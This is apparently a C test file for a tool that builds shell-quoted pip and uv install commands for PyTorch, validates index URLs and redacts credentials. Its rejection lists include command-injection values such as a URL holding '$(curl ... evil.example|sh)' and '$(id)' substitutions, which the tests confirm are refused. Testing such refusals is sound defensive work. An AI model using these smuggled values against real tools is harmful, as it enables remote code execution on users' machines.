/*
 * test_shellcmd: the command writer (shellcmd), the index URL grammar
 * (indexurl) and the install commands made from them (installcmd).
 *
 * How the six shells read the lines is tested by running them
 * (tests/cli/test_shells.py); here, what the writer writes and refuses.
 */
#include <stdlib.h>
#include <string.h>

#include "harness.h"
#include "indexurl.h"
#include "installcmd.h"
#include "shellcmd.h"
#include "tables.h"

static char *line_of(const char *const *argv)
{
    struct shellcmd c = {0};
    for (; *argv; argv++)
        shellcmd_add(&c, *argv);
    char *s = shellcmd_line(&c);
    shellcmd_free(&c);
    return s;
}

static void test_quoting(void)
{
    static const struct {
        const char *arg, *want;
    } cases[] = {
        {"pip", "pip"},
        {"--index-url", "--index-url"},
        {"https://download.pytorch.org/whl/cu126", "https://download.pytorch.org/whl/cu126"},
        {"http://127.0.0.1:8080/whl/cu126", "http://127.0.0.1:8080/whl/cu126"},
        {"torch==2.14.*", "\"torch==2.14.*\""}, /* a glob in every POSIX shell and fish */
        {"a b", "\"a b\""},
        {"=ls", "\"=ls\""},   /* zsh's =command expansion */
        {"-a.b", "\"-a.b\""}, /* PowerShell splits it at the '.' */
        {"--flag=x", "\"--flag=x\""},
        {"~user", "\"~user\""}, /* tilde expansion */
        {"a,b", "\"a,b\""},     /* PowerShell's array operator */
        {"@args", "\"@args\""}, /* PowerShell's splatting */
        {"x;y", "\"x;y\""},
        {"x&y", "\"x&y\""},
        {"x|y", "\"x|y\""},
        {"(x)", "\"(x)\""},
        {"{a,b}", "\"{a,b}\""}, /* brace expansion */
        {"[::1]", "\"[::1]\""},
        {"#c", "\"#c\""},
        {"x'y", "\"x'y\""},
        {"2.8.0+cu128", "\"2.8.0+cu128\""},
        {"import torch; print(torch.cuda.get_arch_list())",
         "\"import torch; print(torch.cuda.get_arch_list())\""},
    };
    for (size_t i = 0; i < sizeof cases / sizeof cases[0]; i++) {
        char *s = line_of((const char *const[]){cases[i].arg, NULL});
        STR_EQ(s, cases[i].want, cases[i].arg);
        free(s);
    }
    /* What no double quotes of all six shells keep as it is: no line. */
    static const char *const refused[] = {
        "$(id)",
        "`id`",
        "a\"b",
        "a\\b",
        "1!2.5.0",
        "%PATH%",
        "a\nb",
        "a\tb",
        "\x7f",
        "caf\xc3\xa9",
        "\xe2\x80\x9cq\xe2\x80\x9d",
        "",
    };
    for (size_t i = 0; i < sizeof refused / sizeof refused[0]; i++) {
        OK(!shellcmd_arg_ok(refused[i]), "refused: %s", refused[i]);
        char *s = line_of((const char *const[]){"pip", refused[i], NULL});
        OK(s == NULL, "no line with the argument %s: %s", refused[i], s ? s : "");
        free(s);
    }
}

static void test_requirements_and_steps(void)
{
    struct shellcmd c = {0};
    shellcmd_add(&c, "pip");
    shellcmd_add(&c, "uninstall");
    shellcmd_add(&c, "-y");
    shellcmd_add(&c, "torch");
    shellcmd_then(&c);
    shellcmd_add(&c, "pip");
    shellcmd_add(&c, "install");
    shellcmd_add_requirement(&c, "torch==2.8.0");
    shellcmd_add_requirement(&c, "numpy");
    char *s = shellcmd_line(&c);
    STR_EQ(s, "pip uninstall -y torch && pip install \"torch==2.8.0\" numpy", "two steps");
    free(s);
    INT_EQ(shellcmd_steps(&c), 2, "steps");
    char *const *argv;
    size_t argc;
    shellcmd_step(&c, 0, &argv, &argc);
    INT_EQ(argc, 4, "first step's arguments");
    STR_EQ(argv[3], "torch", "first step's last");
    shellcmd_step(&c, 1, &argv, &argc);
    INT_EQ(argc, 4, "second step's arguments");
    STR_EQ(argv[0], "pip", "second step's program");
    STR_EQ(argv[2], "torch==2.8.0", "the argv holds the requirement unquoted");
    shellcmd_step(&c, 2, &argv, &argc);
    INT_EQ(argc, 0, "no third step");
    struct shellcmd d;
    shellcmd_copy(&d, &c);
    char *t = shellcmd_line(&d);
    s = shellcmd_line(&c);
    STR_EQ(t, s, "a copy writes the same line");
    free(s);
    free(t);
    shellcmd_free(&d);
    shellcmd_free(&c);
    struct shellcmd e = {0};
    shellcmd_then(&e); /* nothing to end */
    OK(shellcmd_line(&e) == NULL && shellcmd_steps(&e) == 0, "an empty command has no line");
    shellcmd_free(&e);
}

static void test_indexurl(void)
{
    static const char *const good[] = {
        "https://download.pytorch.org/whl/cu126/",
        "https://download.pytorch.org/whl/cu126",
        "https://download.pytorch.org/whl/nightly/cu130/",
        "https://pypi.org/simple/",
        "http://127.0.0.1:8080/whl/rocm6.2.4/",
        "http://[::1]:9000/simple/",
        "https://mirror.example/~ops/whl/cu12_8+x/",
        "https://abetlen.github.io/llama-cpp-python/whl/cu121/",
    };
    for (size_t i = 0; i < sizeof good / sizeof good[0]; i++)
        OK(indexurl_valid(good[i]), "valid: %s", good[i]);
    static const char *const bad[] = {
        "https://download.pytorch.org/whl/cu132/$(curl${IFS}-s${IFS}evil.example|sh)/",
        "http://127.0.0.1:1/whl/$(touch${IFS}PWN)/",
        "https://h/whl/a b/",
        "https://h/whl/a\nb/",
        "https://h/whl/%2e%2e/",
        "https://h/whl/../x/",
        "https://h/whl/./x/",
        "https://h//x/",
        "https://h/whl/?q=1",
        "https://h/whl/#f",
        "https://h/whl/a'b/",
        "https://h/whl/a\"b/",
        "https://h/whl/a`b/",
        "https://h/whl/a!b/",
        "https://h/whl/a;b/",
        "ftp://h/whl/",
        "https://",
        "https:///x/",
        "https://h",
        "https://-h/x/",
        "https://h_/x/",
        "https://h:0/x/",
        "https://h:65536/x/",
        "https://h:80a/x/",
        "https://[zz]/x/",
        "https://user:token@mirror.example/whl/",
        "https://caf\xc3\xa9.example/x/",
    };
    for (size_t i = 0; i < sizeof bad / sizeof bad[0]; i++)
        OK(!indexurl_valid(bad[i]), "invalid: %s", bad[i]);
    char *big = malloc(INDEXURL_MAX + 64);
    strcpy(big, "https://h/");
    memset(big + 10, 'a', INDEXURL_MAX);
    strcpy(big + 10 + INDEXURL_MAX, "/");
    OK(!indexurl_valid(big), "a URL longer than %d bytes", INDEXURL_MAX);
    free(big);

    char *clean, *ui;
    struct wa_error err;
    INT_EQ(indexurl_split("HTTPS://ci:s3cr%40t@Mirror.Example:8443/whl/CU126/", &clean, &ui, &err),
           0, "user info split off");
    STR_EQ(clean, "https://mirror.example:8443/whl/CU126/",
           "scheme and host lowercased, path kept");
    STR_EQ(ui, "ci:s3cr%40t", "the user info, as written");
    char origin[128];
    indexurl_origin(clean, origin, sizeof origin);
    STR_EQ(origin, "https://mirror.example:8443", "its origin");
    free(clean);
    free(ui);
    OK(indexurl_split("https://ci:hunter2@mirror/whl/$x/", &clean, &ui, &err) < 0 &&
           !strstr(err.msg, "hunter2") && strstr(err.msg, "'$'"),
       "a bad URL's message names the character, never the user info: %s", err.msg);
    char red[128];
    indexurl_redact("https://ci:hunter2@mirror/whl/", red, sizeof red);
    STR_EQ(red, "https://***@mirror/whl/", "redacted");
    indexurl_redact("https://mirror/whl/", red, sizeof red);
    STR_EQ(red, "https://mirror/whl/", "nothing to redact");
}

static void test_installcmd(const struct tables *t)
{
    struct installcmd c;
    const struct installcmd_req torch = {"torch", "2.14.*", NULL};
    INT_EQ(installcmd_make(&c, t, &torch, 1, "https://download.pytorch.org/whl/cu126", 0), 0,
           "download.pytorch.org");
    STR_EQ(c.pip_line,
           "pip install \"torch==2.14.*\" --index-url https://download.pytorch.org/whl/cu126",
           "pip");
    STR_EQ(c.uv_line, "uv pip install \"torch==2.14.*\" --torch-backend cu126", "uv's own form");
    STR_EQ(c.uv_from, "0.6.9", "cu126 from uv 0.6.9");
    installcmd_free(&c);

    const struct installcmd_req with[] = {{"torch", "2.14.*", NULL}, {"xformers", "0.0.33", NULL}};
    installcmd_make(&c, t, with, 2, "https://download.pytorch.org/whl/cu132", 0);
    STR_EQ(c.uv_from, "0.11.29", "the newest of the backend's and the projects' uv releases");
    installcmd_free(&c);

    const struct installcmd_req other[] = {{"torch", "2.14.*", NULL},
                                           {"bitsandbytes", "0.45.*", NULL}};
    installcmd_make(&c, t, other, 2, "https://download.pytorch.org/whl/cu126", 0);
    OK(c.uv_from == NULL && strstr(c.uv_line, "--index-url https://download.pytorch.org/whl/cu126"),
       "a project uv does not route: pip's form with uv in front: %s", c.uv_line);
    installcmd_free(&c);

    installcmd_make(&c, t, &torch, 1, "https://download.pytorch.org/whl/rocm7.14", 0);
    OK(c.uv_from == NULL && strstr(c.uv_line, "--index-url"),
       "a backend uv does not know (rocm7.14): --index-url: %s", c.uv_line);
    installcmd_free(&c);

    installcmd_make(&c, t, &torch, 1, "https://download.pytorch.org/whl/nightly/cu130", 0);
    OK(c.uv_from == NULL && strstr(c.uv_line, "--index-url"), "a nightly index: --index-url");
    installcmd_free(&c);

    installcmd_make(&c, t, &torch, 1, "https://mirror.example/whl/cu126", 0);
    OK(c.uv_from == NULL && strstr(c.uv_line, "--index-url https://mirror.example/whl/cu126"),
       "another host: --index-url");
    installcmd_free(&c);

    installcmd_make(&c, t, &torch, 1, NULL, 0);
    STR_EQ(c.pip_line, "pip install \"torch==2.14.*\"", "no index: PyPI");
    STR_EQ(c.uv_line, "uv pip install \"torch==2.14.*\"", "and uv");
    installcmd_free(&c);

    const struct installcmd_req exact = {"torch", "2.8.0", NULL};
    installcmd_make(&c, t, &exact, 1, "https://download.pytorch.org/whl/cu128", INSTALLCMD_REPLACE);
    STR_EQ(c.pip_line,
           "pip uninstall -y torch && pip install \"torch==2.8.0\" --index-url "
           "https://download.pytorch.org/whl/cu128",
           "replacing: pip uninstalls first");
    STR_EQ(c.uv_line,
           "uv pip install --reinstall-package torch \"torch==2.8.0\" --torch-backend cu128",
           "uv reinstalls");
    installcmd_free(&c);

    /* AMD's whl-next: its own index (--index-url), the exact version with
     * its label (PEP 440 puts "2.13.0+rocm7.14.0" above
     * "2.13.0+rocm10.0.0" under "2.13.*"), the extra with the GPU's code */
    const struct installcmd_req amd[] = {{"torch", "2.13.*", "device-gfx1100"},
                                         {"torchvision", "0.28.*", "device-gfx1100"}};
    installcmd_make(&c, t, amd, 2, "https://stable.repo.amd.com/rocm/whl-next", 0);
    STR_EQ(c.pip_line,
           "pip install \"torch[device-gfx1100]==2.13.0+rocm10.0.0\" "
           "\"torchvision[device-gfx1100]==0.28.0+rocm10.0.0\" --index-url "
           "https://stable.repo.amd.com/rocm/whl-next",
           "AMD's index: exact pins with the extra");
    STR_EQ(c.uv_line,
           "uv pip install \"torch[device-gfx1100]==2.13.0+rocm10.0.0\" "
           "\"torchvision[device-gfx1100]==0.28.0+rocm10.0.0\" --index-url "
           "https://stable.repo.amd.com/rocm/whl-next",
           "and uv the same way");
    installcmd_free(&c);
    const struct installcmd_req two = {"torch", "2.13.*", "device-gfx1100,device-gfx1201"};
    installcmd_make(&c, t, &two, 1, "https://stable.repo.amd.com/rocm/whl-next/", 0);
    OK(c.pip_line &&
           strstr(c.pip_line, "\"torch[device-gfx1100,device-gfx1201]==2.13.0+rocm10.0.0\""),
       "two GPUs' extras in one requirement: %s", c.pip_line ? c.pip_line : "(none)");
    installcmd_free(&c);
    const struct installcmd_req badx = {"torch", "2.13.*", "device-$(id)"};
    OK(installcmd_make(&c, t, &badx, 1, "https://stable.repo.amd.com/rocm/whl-next/", 0) < 0 &&
           !c.pip_line,
       "an extra outside the rule makes no command");
    installcmd_free(&c);

    const struct installcmd_req bare = {"torch", NULL, NULL};
    installcmd_make(&c, t, &bare, 1, "https://pypi.jetson-ai-lab.io/jp6/cu126", 0);
    STR_EQ(c.pip_line, "pip install torch --index-url https://pypi.jetson-ai-lab.io/jp6/cu126",
           "a name alone is not quoted");
    installcmd_free(&c);

    OK(installcmd_make(&c, t, &torch, 1, "https://download.pytorch.org/whl/$(id)/", 0) < 0 &&
           !c.pip_line && !c.uv_line,
       "a URL outside the grammar makes no command");
    const struct installcmd_req epoch = {"torch", "1!2.5.*", NULL};
    OK(installcmd_make(&c, t, &epoch, 1, "https://download.pytorch.org/whl/cu126", 0) < 0 &&
           !c.pip_line,
       "an epoch's '!' makes no command");
    const struct installcmd_req hostile = {"torch", "2.8.* $(id)", NULL};
    OK(installcmd_make(&c, t, &hostile, 1, NULL, 0) < 0, "a pin with '$' makes no command");

    STR_EQ(installcmd_fixed_line(INSTALLCMD_UNINSTALL_TORCH),
           "pip uninstall -y torch torchvision torchaudio", "the fixed uninstall");
    STR_EQ(installcmd_fixed_line(INSTALLCMD_ARCH_LIST),
           "python -c \"import torch; print(torch.cuda.get_arch_list())\"",
           "the arch-list one-liner");
}

int main(int argc, char **argv)
{
    test_quoting();
    test_requirements_and_steps();
    test_indexurl();
    if (argc > 1) {
        struct tables t;
        struct wa_error err;
        if (tables_load(argv[1], &t, &err) < 0) {
            fprintf(stderr, "FAIL: tables: %s\n", err.msg);
            return 1;
        }
        test_installcmd(&t);
        tables_free(&t);
    }
    return harness_done();
}
